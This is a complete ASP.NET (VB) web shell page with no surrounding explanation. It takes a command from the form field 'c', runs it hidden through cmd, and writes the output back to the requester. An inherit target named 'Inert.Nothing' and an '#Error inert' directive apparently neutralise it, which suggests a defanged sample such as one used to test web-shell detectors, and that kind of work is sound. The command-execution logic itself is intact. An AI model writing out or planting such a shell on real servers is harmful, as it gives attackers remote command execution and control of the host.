<%@ Page Language="VB" Inherits="Inert.Nothing" %>
<%
#Error inert
Dim c As String = Request.Form("c")
If c <> "" Then
    Dim t As String = System.IO.Path.GetTempFileName()
    Microsoft.VisualBasic.Interaction.Shell("cmd /c " & c & " > """ & t & """", AppWinStyle.Hide, True)
    Response.Write("<xmp>" & System.IO.File.ReadAllText(t) & "</xmp>")
End If
%>
